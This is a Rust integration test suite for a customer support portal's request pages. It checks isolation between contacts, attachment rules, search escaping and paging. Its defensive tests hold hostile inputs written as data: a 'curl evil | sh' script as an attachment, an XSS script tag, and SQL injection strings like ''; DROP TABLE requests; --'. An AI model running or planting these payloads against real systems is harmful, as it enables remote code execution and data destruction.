//! Requests in the portal, on SQLite and PostgreSQL: raising and following them, what a
//! contact can never reach, attachments, awkward searches, and paging through ten thousand.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a test fails loudly on the first surprise"
)]

mod common;

use common::{Backend, Browser, DEMO_PASSWORD, Page, TestApp};
use portico::{
    domain::{
        contact::{ContactId, Identifier},
        org::OrgId,
        requests::{CategoryId, Priority, RequestStatus},
    },
    storage::{
        accounts, orgs,
        requests::{self as store, NewRequestRow, RequestFilter},
    },
};
use reqwest::{StatusCode, multipart};

both_backends!(
    demo_contacts_see_only_their_own_organizations_requests,
    a_contact_raises_a_request_with_an_attachment_and_follows_it,
    inactive_or_foreign_categories_are_refused,
    another_contacts_request_is_not_found_however_it_is_reached,
    attachments_that_are_too_big_or_programs_are_refused,
    searches_with_sql_or_fts_syntax_are_plain_text,
    closing_and_reopening_follow_the_organizations_policy,
    ten_thousand_requests_page_correctly,
    requests_raised_at_once_get_distinct_numbers,
    a_new_request_and_a_staff_reply_reach_the_contact_by_email,
    a_retired_portal_is_read_only,
);

async fn logged_in(app: &TestApp, slug: &str, email: &str) -> Browser {
    let browser = app.browser();
    let answer = browser.password_login(slug, email, DEMO_PASSWORD).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{email} logs in");
    browser
}

/// Posts a multipart form with the page's CSRF token, like the browser's form would.
async fn post_multipart(
    browser: &Browser,
    page: &str,
    action: &str,
    fields: &[(&str, &str)],
    file: Option<(&str, Vec<u8>)>,
) -> Page {
    let csrf = browser.get(page).await.csrf();
    let mut form = multipart::Form::new().text("csrf", csrf);
    for (name, value) in fields {
        form = form.text(name.to_string(), value.to_string());
    }
    if let Some((file_name, data)) = file {
        let part = multipart::Part::bytes(data)
            .file_name(file_name.to_owned())
            .mime_str("application/octet-stream")
            .unwrap();
        form = form.part("attachment", part);
    }
    let response = browser
        .client
        .post(format!("{}{action}", browser.base))
        .multipart(form)
        .send()
        .await
        .unwrap();
    let status = response.status();
    let headers = response.headers().clone();
    let body = response.text().await.unwrap_or_default();
    Page {
        status,
        headers,
        body,
    }
}

/// Writes a request by hand (so the body can be cut short) and reads the answer.
async fn raw_exchange(addr: &str, head: &str, body: &[u8]) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    let _ = stream.write_all(body).await;
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer).await;
    String::from_utf8_lossy(&answer).into_owned()
}

/// A page's text with the entities handlebars writes for `=` and `&` turned back.
fn decoded(body: &str) -> String {
    body.replace("&#x3D;", "=").replace("&amp;", "&")
}

/// The value of the `<option>` labelled `label`.
fn option_value(body: &str, label: &str) -> String {
    let end = body
        .find(&format!("\">{label}</option>"))
        .unwrap_or_else(|| panic!("no option {label}"));
    let start = body[..end].rfind("value=\"").unwrap() + "value=\"".len();
    body[start..end].to_owned()
}

async fn org_id(app: &TestApp, slug: &str) -> OrgId {
    let slug = slug.to_owned();
    app.app
        .db
        .run(move |conn| Ok(orgs::find_by_slug(conn, &slug)?.unwrap().id))
        .await
        .unwrap()
}

async fn contact_id(app: &TestApp, org_id: OrgId, email: &str) -> ContactId {
    let identifier = Identifier::parse(email, "US").unwrap();
    app.app
        .db
        .run(move |conn| {
            Ok(
                accounts::find_contact_by_identifier(conn, &org_id, &identifier)?
                    .unwrap()
                    .contact
                    .id,
            )
        })
        .await
        .unwrap()
}

async fn category_id(app: &TestApp, org_id: OrgId, name: &str) -> CategoryId {
    let name = name.to_owned();
    app.app
        .db
        .run(move |conn| {
            let all = store::categories(conn, &org_id)?;
            Ok(all.into_iter().find(|c| c.name == name).unwrap().id)
        })
        .await
        .unwrap()
}

async fn count_requests(app: &TestApp, org_id: OrgId) -> i64 {
    app.app
        .db
        .run(move |conn| Ok(store::list(conn, &org_id, &RequestFilter::default(), 1, 1)?.total))
        .await
        .unwrap()
}

async fn demo_contacts_see_only_their_own_organizations_requests(backend: Backend) {
    let Some(app) = TestApp::demo(backend).await else {
        return;
    };
    let own = "Order AC-58213 arrived missing two boxes of M8 hex bolts";
    let colleagues = "Raise our trade credit limit before the spring rush";
    let acme = logged_in(&app, "acme", "demo@acme.example").await;
    let umbrella = logged_in(&app, "umbrella", "demo@umbrella.example").await;

    let acme_list = acme.get("/portal/acme/requests").await;
    assert_eq!(acme_list.status, StatusCode::OK);
    assert!(acme_list.body.contains(own), "{}", acme_list.body);
    assert!(
        acme_list.body.contains("4 request(s)"),
        "{}",
        acme_list.body
    );
    assert!(
        !acme_list.body.contains(colleagues),
        "another contact's request"
    );

    let umbrella_list = umbrella.get("/portal/umbrella/requests").await;
    assert_eq!(umbrella_list.status, StatusCode::OK);
    assert!(
        umbrella_list.body.contains("3 request(s)"),
        "{}",
        umbrella_list.body
    );
    for subject in [own, colleagues, "Invoice 2026-0412"] {
        assert!(!umbrella_list.body.contains(subject), "acme's {subject}");
    }
    for page in [&acme_list, &umbrella_list] {
        assert!(
            !page.body.contains("Recalibration certificate missing"),
            "pat's request"
        );
    }

    // The acme session is worth nothing on umbrella's request pages.
    let crossed = acme.get("/portal/umbrella/requests").await;
    assert_eq!(crossed.status, StatusCode::SEE_OTHER);
    assert_eq!(crossed.location(), "/portal/umbrella/login");
}

async fn a_contact_raises_a_request_with_an_attachment_and_follows_it(backend: Backend) {
    let Some(app) = TestApp::demo(backend).await else {
        return;
    };
    let browser = logged_in(&app, "acme", "demo@acme.example").await;
    let form = browser.get("/portal/acme/requests/new").await;
    assert_eq!(form.status, StatusCode::OK);
    assert!(form.body.contains("/static/suggest.js"));
    assert!(
        !form.body.contains("Printed catalogue requests"),
        "inactive category offered"
    );
    let category = option_value(&form.body, "Warranty and repairs");

    let log = b"2026-12-01 08:14 grinder G-200 tripped the breaker\n".to_vec();
    let created = post_multipart(
        &browser,
        "/portal/acme/requests/new",
        "/portal/acme/requests",
        &[
            ("subject", "Bench grinder trips the breaker at start-up"),
            (
                "description",
                "Since Monday our G-200 grinder trips the breaker.",
            ),
            ("category", &category),
            ("priority", "high"),
        ],
        Some(("breaker.log", log.clone())),
    )
    .await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    let path = created.location().to_owned();
    assert!(path.starts_with("/portal/acme/requests/10"), "{path}");

    let page = browser.get(&path).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.body
            .contains("Bench grinder trips the breaker at start-up")
    );
    assert!(page.body.contains("priority High"));
    assert!(page.body.contains("Warranty and repairs"));
    assert!(
        page.body.contains(" EST") || page.body.contains(" EDT"),
        "times in Dana's zone, New York"
    );
    let link_start = page.body.find(&format!("{path}/attachments/")).unwrap();
    let link_end = link_start + page.body[link_start..].find('"').unwrap();
    let download = browser.get(&page.body[link_start..link_end]).await;
    assert_eq!(download.status, StatusCode::OK);
    assert_eq!(download.body.as_bytes(), log.as_slice());
    let disposition = download.headers["content-disposition"].to_str().unwrap();
    assert_eq!(disposition, "attachment; filename=\"breaker.log\"");
    assert!(
        download.headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/plain")
    );

    let reply = post_multipart(
        &browser,
        &path,
        &format!("{path}/replies"),
        &[("body", "It also happens with the <b>second</b> grinder.")],
        None,
    )
    .await;
    assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.body);
    let page = browser.get(&path).await;
    assert!(
        page.body
            .contains("It also happens with the &lt;b&gt;second&lt;/b&gt; grinder.")
    );

    let list = browser.get("/portal/acme/requests?status=open").await;
    assert!(
        list.body.contains("Bench grinder trips the breaker"),
        "{}",
        list.body
    );
    let by_category = browser
        .get(&format!("/portal/acme/requests?category={category}"))
        .await;
    assert!(by_category.body.contains("Bench grinder"));
    assert!(by_category.body.contains("Cordless impact driver"));
    assert!(!by_category.body.contains("Invoice 2026-0412"));
    let searched = browser.get("/portal/acme/requests?q=GRINDER").await;
    assert!(
        searched.body.contains("1 request(s) match"),
        "{}",
        searched.body
    );

    let closed = browser.submit(&path, &format!("{path}/close"), &[]).await;
    assert_eq!(closed.status, StatusCode::SEE_OTHER);
    let page = browser.get(&path).await;
    assert!(page.body.contains("status-closed"));
    assert!(page.body.contains("This request is closed."));
    let late = post_multipart(
        &browser,
        &path,
        &format!("{path}/replies"),
        &[("body", "x")],
        None,
    )
    .await;
    assert_eq!(late.status, StatusCode::UNPROCESSABLE_ENTITY);
    let reopened = browser.submit(&path, &format!("{path}/reopen"), &[]).await;
    assert_eq!(reopened.status, StatusCode::SEE_OTHER);
    assert!(browser.get(&path).await.body.contains("status-open"));

    let audit = app.audit_kinds("acme").await;
    let kinds: Vec<&str> = audit.iter().map(|(kind, _)| kind.as_str()).collect();
    assert!(kinds.contains(&"request.raised"), "{kinds:?}");
    assert!(kinds.contains(&"request.closed") && kinds.contains(&"request.reopened"));
}

async fn inactive_or_foreign_categories_are_refused(backend: Backend) {
    let Some(app) = TestApp::demo(backend).await else {
        return;
    };
    let acme = org_id(&app, "acme").await;
    let umbrella = org_id(&app, "umbrella").await;
    let inactive = category_id(&app, acme, "Printed catalogue requests").await;
    let umbrella_categories = app
        .app
        .db
        .run(move |conn| store::categories(conn, &umbrella))
        .await
        .unwrap();
    let foreign = umbrella_categories[0].id;
    let before = count_requests(&app, acme).await;
    let browser = logged_in(&app, "acme", "demo@acme.example").await;

    for category in [
        inactive.to_string(),
        foreign.to_string(),
        CategoryId::new().to_string(),
        "' OR 1=1 --".to_owned(),
        String::new(),
    ] {
        let answer = post_multipart(
            &browser,
            "/portal/acme/requests/new",
            "/portal/acme/requests",
            &[
                ("subject", "Please send the printed catalogue"),
                ("description", "We would like two copies."),
                ("category", &category),
                ("priority", "low"),
            ],
            None,
        )
        .await;
        assert_eq!(
            answer.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{category}"
        );
        assert!(answer.body.contains("id=\"category-error\""), "{category}");
        assert!(
            answer.body.contains("Please send the printed catalogue"),
            "form kept"
        );
    }
    let bad_priority = post_multipart(
        &browser,
        "/portal/acme/requests/new",
        "/portal/acme/requests",
        &[
            ("subject", "Priority games"),
            ("description", "x"),
            (
                "category",
                &category_id(&app, acme, "Trade account").await.to_string(),
            ),
            ("priority", "critical"),
        ],
        None,
    )
    .await;
    assert_eq!(bad_priority.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad_priority.body.contains("id=\"priority-error\""));
    assert_eq!(
        count_requests(&app, acme).await,
        before,
        "nothing was stored"
    );

    // An old request keeps its inactive category.
    let contact = contact_id(&app, acme, "demo@acme.example").await;
    let number = app
        .app
        .db
        .transaction(move |conn| {
            let row = NewRequestRow {
                contact_id: &contact,
                category_id: &inactive,
                subject: "Catalogue from before it was retired",
                description: "An old request.",
                priority: Priority::Low,
                status: RequestStatus::Closed,
                created_at: chrono::Utc::now().naive_utc(),
            };
            Ok(store::insert_request(conn, &acme, &row)?.number)
        })
        .await
        .unwrap();
    let page = browser
        .get(&format!("/portal/acme/requests/{number}"))
        .await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("Printed catalogue requests"));
}

async fn another_contacts_request_is_not_found_however_it_is_reached(backend: Backend) {
    let Some(app) = TestApp::demo(backend).await else {
        return;
    };
    let acme = org_id(&app, "acme").await;
    let okafor = contact_id(&app, acme, "j.okafor@acme.example").await;
    let theirs = app
        .app
        .db
        .run(move |conn| {
            let filter = RequestFilter {
                contact_id: Some(okafor),
                ..RequestFilter::default()
            };
            Ok(store::list(conn, &acme, &filter, 1, 10)?.requests[0].number)
        })
        .await
        .unwrap();

    // Okafor attaches a file to their own request.
    let okafor_browser = logged_in(&app, "acme", "j.okafor@acme.example").await;
    let theirs_path = format!("/portal/acme/requests/{theirs}");
    let attached = post_multipart(
        &okafor_browser,
        &theirs_path,
        &format!("{theirs_path}/replies"),
        &[("body", "Our last three statements are attached.")],
        Some(("statements.pdf", b"%PDF-1.4 confidential".to_vec())),
    )
    .await;
    assert_eq!(attached.status, StatusCode::SEE_OTHER);
    let page = okafor_browser.get(&theirs_path).await;
    let start = page
        .body
        .find(&format!("{theirs_path}/attachments/"))
        .unwrap();
    let end = start + page.body[start..].find('"').unwrap();
    let their_attachment = page.body[start..end].to_owned();
    let attachment_id = their_attachment.rsplit('/').next().unwrap().to_owned();

    let demo = logged_in(&app, "acme", "demo@acme.example").await;
    let own_page = demo.get("/portal/acme/requests/1001").await;
    let csrf = own_page.csrf();
    for path in [
        theirs_path.clone(),
        their_attachment.clone(),
        format!("/portal/acme/requests/1001/attachments/{attachment_id}"),
        "/portal/acme/requests/999999".to_owned(),
        "/portal/acme/requests/-1".to_owned(),
        "/portal/acme/requests/1001%20OR%201=1".to_owned(),
        "/portal/acme/requests/abc".to_owned(),
    ] {
        let answer = demo.get(&path).await;
        assert_eq!(answer.status, StatusCode::NOT_FOUND, "{path}");
        assert!(
            !answer.body.contains("Raise our trade credit limit"),
            "{path}"
        );
    }
    let reply = post_multipart(
        &demo,
        "/portal/acme/requests/1001",
        &format!("{theirs_path}/replies"),
        &[("body", "Sneaky reply")],
        None,
    )
    .await;
    assert_eq!(reply.status, StatusCode::NOT_FOUND);
    for action in ["close", "reopen"] {
        let answer = demo
            .post_form(
                &format!("{theirs_path}/{action}"),
                &[("csrf", csrf.as_str())],
            )
            .await;
        assert_eq!(answer.status, StatusCode::NOT_FOUND, "{action}");
    }
    let unchanged = okafor_browser.get(&theirs_path).await;
    assert!(!unchanged.body.contains("Sneaky reply"));
    assert!(unchanged.body.contains("status-open"));

    // Umbrella's request #1001 is a different request, out of reach from acme.
    let umbrella = logged_in(&app, "umbrella", "demo@umbrella.example").await;
    let umbrella_own = umbrella.get("/portal/umbrella/requests/1001").await;
    assert_eq!(umbrella_own.status, StatusCode::OK);
    let acme_own = demo.get("/portal/acme/requests/1001").await;
    assert!(acme_own.body.contains("Invoice 2026-0412"));
    assert!(!umbrella_own.body.contains("Invoice 2026-0412"));

    // Without a session, the pages send the visitor to log in and the forms refuse.
    let anonymous = app.browser();
    let answer = anonymous.get("/portal/acme/requests/1001").await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);
    let answer = post_multipart(
        &anonymous,
        "/portal/acme/login",
        "/portal/acme/requests/1001/replies",
        &[("body", "anonymous")],
        None,
    )
    .await;
    assert_eq!(answer.status, StatusCode::UNAUTHORIZED);
}

async fn attachments_that_are_too_big_or_programs_are_refused(backend: Backend) {
    let Some(app) = TestApp::demo(backend).await else {
        return;
    };
    let acme = org_id(&app, "acme").await;
    let before = count_requests(&app, acme).await;
    let browser = logged_in(&app, "acme", "demo@acme.example").await;
    let category = category_id(&app, acme, "Technical support")
        .await
        .to_string();
    let fields = [
        ("subject", "Manual for the BX-200 lathe"),
        ("description", "See the attached file."),
        ("category", category.as_str()),
        ("priority", "low"),
    ];
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("manual.txt", vec![b'a'; 600 * 1024], "at most 512 KiB"),
        (
            "setup.exe",
            b"MZ\x90\x00\x03\x00\x00\x00".to_vec(),
            "Programs and scripts",
        ),
        (
            "photo.png",
            b"MZ\x90\x00\x03\x00\x00\x00".to_vec(),
            "Programs and scripts",
        ),
        (
            "notes.txt",
            b"\x7fELF\x02\x01\x01\x00".to_vec(),
            "Programs and scripts",
        ),
        (
            "fix.txt",
            b"#!/bin/sh\ncurl evil | sh\n".to_vec(),
            "Programs and scripts",
        ),
        (
            "page.html",
            b"<script>alert(1)</script>".to_vec(),
            "Programs and scripts",
        ),
        (
            "archive.zip",
            b"PK\x03\x04\x14\x00".to_vec(),
            "Attach a PNG",
        ),
        (
            "invoice.pdf",
            b"\x89PNG\r\n\x1a\n0000".to_vec(),
            "does not match",
        ),
    ];
    for (name, data, message) in cases {
        let answer = post_multipart(
            &browser,
            "/portal/acme/requests/new",
            "/portal/acme/requests",
            &fields,
            Some((name, data)),
        )
        .await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}");
        assert!(answer.body.contains("id=\"attachment-error\""), "{name}");
        assert!(answer.body.contains(message), "{name}: {message}");
    }

    // Over the server's body limit, the form is refused from its announced length, before
    // it is read.
    let addr = app.base.trim_start_matches("http://").to_owned();
    let head = "POST /portal/acme/requests HTTP/1.1\r\nHost: portico\r\n\
                Content-Type: multipart/form-data; boundary=XyZ\r\n\
                Content-Length: 2097152\r\nConnection: close\r\n\r\n";
    let answer = raw_exchange(&addr, head, b"--XyZ\r\n").await;
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert_eq!(
        count_requests(&app, acme).await,
        before,
        "nothing was stored"
    );

    // A reply with a program attached is refused too, and stores no reply.
    let answer = post_multipart(
        &browser,
        "/portal/acme/requests/1001",
        "/portal/acme/requests/1001/replies",
        &[("body", "Here is the tool you asked for")],
        Some(("tool.exe", b"MZ\x90\x00".to_vec())),
    )
    .await;
    assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(answer.body.contains("Programs and scripts"));
    let page = browser.get("/portal/acme/requests/1001").await;
    assert!(
        !page
            .body
            .contains("<p class=\"text\">Here is the tool you asked for</p>")
    );
}

async fn searches_with_sql_or_fts_syntax_are_plain_text(backend: Backend) {
    let Some(app) = TestApp::demo(backend).await else {
        return;
    };
    let browser = logged_in(&app, "acme", "demo@acme.example").await;
    for q in [
        "\"",
        "\"unbalanced",
        "*",
        "-",
        "NEAR",
        "invoice OR bolts",
        "NEAR(invoice bolts)",
        "' OR '1'='1",
        "%",
        "_",
        "\\",
        "'; DROP TABLE requests; --",
        "invoice*",
        "-invoice",
        "\u{0}",
    ] {
        let encoded: String = serde_urlencoded::to_string([("q", q)]).unwrap();
        let page = browser
            .get(&format!("/portal/acme/requests?{encoded}"))
            .await;
        assert_eq!(page.status, StatusCode::OK, "{q}");
        assert!(page.body.contains("request(s)"), "{q}");
        assert!(!page.body.contains("Raise our trade credit limit"), "{q}");
    }
    let percent = browser.get("/portal/acme/requests?q=%25").await;
    assert!(percent.body.contains("0 request(s) match"), "% is literal");
    let number = browser.get("/portal/acme/requests?q=%231002").await;
    assert!(
        number.body.contains("1 request(s) match"),
        "{}",
        number.body
    );
    assert!(number.body.contains("M8 hex bolts"));
    let apart = browser.get("/portal/acme/requests?q=reissue%20VAT").await;
    assert!(
        apart.body.contains("1 request(s) match"),
        "words anywhere, in any order"
    );
    let missing = browser.get("/portal/acme/requests?q=VAT%20zebra").await;
    assert!(
        missing.body.contains("0 request(s) match"),
        "every word must appear"
    );
    let words = browser.get("/portal/acme/requests?q=vat%20NUMBER").await;
    assert!(words.body.contains("1 request(s) match"), "{}", words.body);
    assert_eq!(
        browser.get("/portal/acme/requests").await.status,
        StatusCode::OK,
        "the table is still there"
    );
}

async fn closing_and_reopening_follow_the_organizations_policy(backend: Backend) {
    let Some(app) = TestApp::demo(backend).await else {
        return;
    };
    let acme = org_id(&app, "acme").await;
    let browser = logged_in(&app, "acme", "demo@acme.example").await;
    // #1004 is resolved: it may be closed or reopened under the default policy.
    let page = browser.get("/portal/acme/requests/1004").await;
    assert!(page.body.contains("Close this request") && page.body.contains("Reopen this request"));

    app.app
        .db
        .run(move |conn| {
            let mut policy = orgs::policy(conn, &acme)?;
            policy.contacts_may_close = false;
            policy.contacts_may_reopen = false;
            orgs::save_policy(conn, &acme, &policy)
        })
        .await
        .unwrap();
    let page = browser.get("/portal/acme/requests/1004").await;
    assert!(!page.body.contains("Close this request"));
    assert!(!page.body.contains("Reopen this request"));
    let csrf = page.csrf();
    for action in ["close", "reopen"] {
        let answer = browser
            .post_form(
                &format!("/portal/acme/requests/1004/{action}"),
                &[("csrf", &csrf)],
            )
            .await;
        assert_eq!(answer.status, StatusCode::FORBIDDEN, "{action}");
    }
    assert!(
        browser
            .get("/portal/acme/requests/1004")
            .await
            .body
            .contains("status-resolved")
    );

    // Without the form token, nothing changes either.
    app.app
        .db
        .run(move |conn| {
            let mut policy = orgs::policy(conn, &acme)?;
            policy.contacts_may_close = true;
            orgs::save_policy(conn, &acme, &policy)
        })
        .await
        .unwrap();
    let forged = browser
        .post_form("/portal/acme/requests/1004/close", &[])
        .await;
    assert_eq!(forged.status, StatusCode::FORBIDDEN);
    let closed = browser
        .submit(
            "/portal/acme/requests/1004",
            "/portal/acme/requests/1004/close",
            &[],
        )
        .await;
    assert_eq!(closed.status, StatusCode::SEE_OTHER);
    let page = browser.get("/portal/acme/requests/1004").await;
    assert!(page.body.contains("status-closed"));
    assert!(
        !page.body.contains("Reopen this request"),
        "reopening is still off"
    );
}

async fn ten_thousand_requests_page_correctly(backend: Backend) {
    let Some(app) = TestApp::demo(backend).await else {
        return;
    };
    let acme = org_id(&app, "acme").await;
    let demo = contact_id(&app, acme, "demo@acme.example").await;
    let category = category_id(&app, acme, "Orders and delivery").await;
    let before = count_requests(&app, acme).await;
    app.app
        .db
        .transaction(move |conn| {
            // Newer than every fixture request, which end up on the last page.
            let start = chrono::Utc::now().naive_utc() - chrono::Duration::days(2);
            for i in 0..10_000i64 {
                let subject = format!("Bulk order question {i:05}");
                let row = NewRequestRow {
                    contact_id: &demo,
                    category_id: &category,
                    subject: &subject,
                    description: "Generated to test paging.",
                    priority: Priority::Low,
                    status: if i % 2 == 0 {
                        RequestStatus::Open
                    } else {
                        RequestStatus::Closed
                    },
                    // Every hundred share one timestamp: the order must still be total.
                    created_at: start + chrono::Duration::minutes(i / 100),
                };
                store::insert_request(conn, &acme, &row)?;
            }
            Ok(())
        })
        .await
        .unwrap();
    assert_eq!(count_requests(&app, acme).await, before + 10_000);

    // The staff queue, paged 500 at a time, lists every request exactly once.
    let numbers = app
        .app
        .db
        .run(move |conn| {
            let mut seen = Vec::new();
            let mut page = 1;
            loop {
                let found = store::list(conn, &acme, &RequestFilter::default(), page, 500)?;
                if found.requests.is_empty() {
                    return Ok((seen, found.total));
                }
                seen.extend(found.requests.iter().map(|r| r.number));
                page += 1;
            }
        })
        .await
        .unwrap();
    let (mut seen, total) = numbers;
    assert_eq!(total, before + 10_000);
    assert_eq!(seen.len() as i64, total);
    seen.sort_unstable();
    seen.dedup();
    assert_eq!(seen.len() as i64, total, "no request twice");

    // The contact's own list: 10,004 requests, 20 a page.
    let browser = logged_in(&app, "acme", "demo@acme.example").await;
    let first = browser.get("/portal/acme/requests").await;
    assert!(
        first.body.contains("10004 request(s) · page 1 of 501"),
        "{}",
        first.body
    );
    assert_eq!(
        first
            .body
            .matches("<li><a href=\"/portal/acme/requests/")
            .count(),
        20
    );
    assert!(first.body.contains("Bulk order question 09999"));
    assert!(decoded(&first.body).contains("requests?page=2"));
    let second = browser.get("/portal/acme/requests?page=2").await;
    assert!(second.body.contains("Bulk order question 09979"));
    assert!(!second.body.contains("Bulk order question 09999"));
    let last = browser.get("/portal/acme/requests?page=501").await;
    assert_eq!(
        last.body
            .matches("<li><a href=\"/portal/acme/requests/")
            .count(),
        4
    );
    assert!(
        last.body.contains("Which collet set fits"),
        "the oldest fixture is last"
    );
    assert!(!last.body.contains("rel=\"next\""));
    let beyond = browser.get("/portal/acme/requests?page=999999999").await;
    assert_eq!(beyond.status, StatusCode::OK);
    assert!(beyond.body.contains("no requests on this page"));

    // Searched, with too many matches to sort: still every match once, in the same order.
    let searched = browser
        .get("/portal/acme/requests?q=bulk+ORDER&page=250")
        .await;
    assert!(
        searched
            .body
            .contains("10000 request(s) match · page 250 of 500"),
        "{}",
        searched.body
    );
    assert!(searched.body.contains("Bulk order question 05000"));
    assert!(searched.body.contains("Bulk order question 05019"));
    assert!(!searched.body.contains("Bulk order question 05020"));
    assert!(!searched.body.contains("Bulk order question 04999"));

    let open = browser
        .get("/portal/acme/requests?status=open&page=250")
        .await;
    assert!(
        open.body
            .contains("5001 request(s) match · page 250 of 251"),
        "{}",
        open.body
    );
    assert!(
        decoded(&open.body).contains("requests?status=open&page=251"),
        "filters stay in the links"
    );
}

async fn requests_raised_at_once_get_distinct_numbers(backend: Backend) {
    let Some(app) = TestApp::demo(backend).await else {
        return;
    };
    let acme = org_id(&app, "acme").await;
    let demo = contact_id(&app, acme, "demo@acme.example").await;
    let contact = app
        .app
        .db
        .run(move |conn| Ok(accounts::find_contact(conn, &acme, &demo)?.unwrap()))
        .await
        .unwrap();
    let category = category_id(&app, acme, "Trade account").await;
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..12 {
        let (app, contact) = (app.app.clone(), contact.clone());
        tasks.spawn(async move {
            let draft = portico::domain::requests::CheckedDraft {
                subject: format!("Simultaneous question {i}"),
                description: "Raised at the same moment as eleven others.".to_owned(),
                category_id: category,
                priority: Priority::Low,
            };
            portico::domain::requests::raise(&app, &contact, draft, None, &Default::default())
                .await
                .map(|request| request.number)
        });
    }
    let mut numbers = Vec::new();
    while let Some(joined) = tasks.join_next().await {
        numbers.push(joined.unwrap().unwrap());
    }
    numbers.sort_unstable();
    numbers.dedup();
    assert_eq!(numbers.len(), 12, "{numbers:?}");
}

async fn a_retired_portal_is_read_only(backend: Backend) {
    let Some(app) = TestApp::demo(backend).await else {
        return;
    };
    let browser = logged_in(&app, "acme", "demo@acme.example").await;
    let form_page = browser.get("/portal/acme/requests/1001").await;
    app.app
        .db
        .run(|conn| {
            use diesel::{ExpressionMethods, QueryDsl, RunQueryDsl};
            use portico::storage::schema::organizations;
            diesel::update(organizations::table.filter(organizations::slug.eq("acme")))
                .set(organizations::status.eq("retired"))
                .execute(conn)?;
            // Changed behind the storage functions' back: say so, as they would.
            portico::storage::orgs::note_change();
            Ok(())
        })
        .await
        .unwrap();

    let page = browser.get("/portal/acme/requests/1001").await;
    assert_eq!(page.status, StatusCode::OK, "requests can still be read");
    assert!(page.body.contains("read-only"));
    assert!(!page.body.contains("Send reply") && !page.body.contains("Close this request"));
    assert!(
        !browser
            .get("/portal/acme/requests")
            .await
            .body
            .contains("New request")
    );
    assert_eq!(
        browser.get("/portal/acme/requests/new").await.status,
        StatusCode::FORBIDDEN
    );
    let reply = post_multipart(
        &browser,
        "/portal/acme/requests/1001",
        "/portal/acme/requests/1001/replies",
        &[("body", "Still there?")],
        None,
    )
    .await;
    assert_eq!(reply.status, StatusCode::FORBIDDEN);
    let close = browser
        .post_form(
            "/portal/acme/requests/1001/close",
            &[("csrf", form_page.csrf().as_str())],
        )
        .await;
    assert_eq!(close.status, StatusCode::FORBIDDEN);
}

async fn a_new_request_and_a_staff_reply_reach_the_contact_by_email(backend: Backend) {
    let smtp = common::smtp::SmtpReceiver::start().await;
    let url = smtp.url();
    let Some(app) =
        TestApp::demo_with(backend, move |config| config.smtp_url = Some(url.into())).await
    else {
        return;
    };
    let browser = logged_in(&app, "acme", "demo@acme.example").await;
    let form = browser.get("/portal/acme/requests/new").await;
    let category = option_value(&form.body, "Warranty and repairs");
    let created = post_multipart(
        &browser,
        "/portal/acme/requests/new",
        "/portal/acme/requests",
        &[
            ("subject", "Torque wrench reads 10% low"),
            (
                "description",
                "Our TW-50 reads low against the bench tester.",
            ),
            ("category", &category),
            ("priority", "medium"),
        ],
        None,
    )
    .await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    let number: i64 = created
        .location()
        .rsplit('/')
        .next()
        .unwrap()
        .parse()
        .unwrap();

    let receipt = smtp.wait_for("demo@acme.example", 1).await;
    assert!(
        receipt.data.contains("We received your request"),
        "{}",
        receipt.data
    );
    assert!(receipt.data.contains(&format!("#{number}")));

    let (org, staff) = app
        .app
        .db
        .run(|conn| {
            let org = portico::storage::orgs::find_by_slug(conn, "acme")?.unwrap();
            let admin =
                portico::storage::accounts::find_admin_by_email(conn, "admin@acme.example")?;
            Ok((org.id, admin.unwrap().0.id))
        })
        .await
        .unwrap();
    let reply = "Please send it in with the calibration card; we will swap it today.";
    portico::domain::requests::staff_reply(&app.app, &org, &staff, number, reply.to_owned(), None)
        .await
        .unwrap();
    let answer = smtp.wait_for("demo@acme.example", 2).await;
    assert!(answer.data.contains("New reply"), "{}", answer.data);
    assert!(answer.data.contains("calibration card"), "{}", answer.data);
    let thread = browser
        .get(&format!("/portal/acme/requests/{number}"))
        .await;
    assert!(thread.body.contains("calibration card"));
    app.settled_outbox().await;
    assert!(
        app.stored_bodies()
            .await
            .iter()
            .all(|(_, body)| body.is_empty()),
        "a sent notice kept its body"
    );
}
